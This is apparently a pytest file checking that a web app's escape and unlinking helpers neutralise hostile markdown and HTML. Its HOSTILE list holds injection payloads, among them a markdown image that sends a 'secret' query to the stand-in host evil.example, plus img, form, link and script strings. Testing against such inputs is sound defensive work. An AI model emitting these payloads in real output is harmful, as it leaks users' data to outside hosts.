"""Nothing that a document or a question holds can make the browser fetch, run or fake anything."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from pages.markup import escape, highlighted, section, unlinked

HOSTILE = [
    "![x](http://evil.example/?q=secret)",
    "[click](http://evil.example)",
    "<img src=http://evil.example>",
    "<form action=https://evil.example>",
    ":red[fake] :material/home:",
    "$\\href{http://evil.example}{x}$",
    "# Heading",
    "> quote\n- list",
    "`code` **bold** _it_ ~~no~~ | a | b |",
    "![a][b]\n\n[b]: http://evil.example/x.png",
    "<http://evil.example>",
    "&lt;script&gt;",
]


def rendered(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_is_only_text(text: str) -> None:
    html = rendered(escape(text))
    assert html.count("<") == 2, html  # the paragraph alone
    assert "href" not in html or "<a" not in html


@pytest.mark.parametrize("text", HOSTILE)
def test_corpus_markdown_keeps_no_image_link_or_html(text: str) -> None:
    html = rendered(unlinked(text))
    for tag in ("<img", "<a ", "<form", "<script"):
        assert tag not in html


def test_highlight_marks_the_sentence_in_words_too() -> None:
    body = "## Head\n\nOne rule [x]. Two **rules**.\n"
    start = body.index("One")
    marked = highlighted(body, start, start + len("One rule [x]."))
    assert "**▶** :orange-background[One rule \\[x\\].] **◀**" in marked
    assert marked.startswith("## Head")


def test_section_spans_from_its_heading_to_the_next() -> None:
    body = "## A\n\none\n\n## B\n\ntwo\n\n## C\n\nthree\n"
    start = body.index("two")
    first, last = section(body, start, start + 3)
    assert body[first:last] == "## B\n\ntwo\n\n"
